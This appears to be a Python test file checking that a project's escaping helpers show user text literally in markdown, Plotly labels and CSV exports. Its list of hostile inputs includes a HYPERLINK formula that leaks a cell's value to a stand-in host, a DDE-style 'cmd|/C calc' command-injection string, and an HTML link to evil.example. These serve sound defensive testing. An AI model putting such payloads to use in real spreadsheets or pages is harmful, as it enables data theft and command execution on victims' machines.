"""Text people typed is shown as text: markdown, plotly's pseudo-HTML, CSV formulas."""

from __future__ import annotations

import io

import pandas as pd
from hypothesis import given
from hypothesis import strategies as st

from clr_core.present.escape import csv_cell, csv_safe_frame, markdown_text, plotly_text
from clr_core.present.plots import Curve, line_figure, sweep_figure

HOSTILE = ['**bold**', ':red[alarm]', '$x^2$', 'https://evil.example', '[a](https://e.x)',
           '<a href="https://evil.example">x</a>', '=HYPERLINK("http://e.x?"&A1,"click")',
           '%{x}', '+1+cmd|/C calc', '@SUM(A1)', '-2+3', '# heading', '`code`']


def test_markdown_text_escapes_every_markup():
    for text in HOSTILE:
        out = markdown_text(text)
        assert not any(out[i] in "*[]$<>`#:" and (i == 0 or out[i - 1] != "\\")
                       for i in range(len(out))), out


@given(st.text(max_size=40))
def test_markdown_text_keeps_the_words(text):
    out = markdown_text(text)
    assert out.replace("\\", "") == " ".join(text.replace("\\", "").split())


def test_plotly_text_shows_html_and_placeholders_literally():
    curves = [Curve(t, [1e-3, 1e-2], [1.0, 2.0], marker=5e-3) for t in HOSTILE]
    fig = sweep_figure(curves)
    for trace in fig.data:
        assert "<a" not in trace.name and "%{x}" not in (trace.name or "")
        assert "<a href" not in trace.hovertemplate
    assert fig.data[0].name == "**bold**"  # plain text stays readable
    assert plotly_text("<b>") == "&lt;b&gt;"
    names = [t.name for t in line_figure(curves, x_title="x", y_title="y").data]
    assert '&lt;a href=&quot;https://evil.example&quot;&gt;x&lt;/a&gt;' in names


def test_csv_cells_that_start_a_formula_are_disarmed():
    assert csv_cell('=HYPERLINK("http://e.x")') == '\'=HYPERLINK("http://e.x")'
    for bad in ("+1+1", "@x", "-x+1", "\t=1", " =1", "|cmd"):
        assert str(csv_cell(bad)).startswith("'")
    for fine in ("plain", "-0.5", "1e-3", 3, None, 2.5):
        assert csv_cell(fine) == fine
    frame = pd.DataFrame({"label": HOSTILE, "n": range(len(HOSTILE))})
    text = csv_safe_frame(frame).to_csv(index=False)
    for row in pd.read_csv(io.StringIO(text))["label"]:
        assert not str(row).lstrip().startswith(("=", "+", "-", "@", "|", "%"))
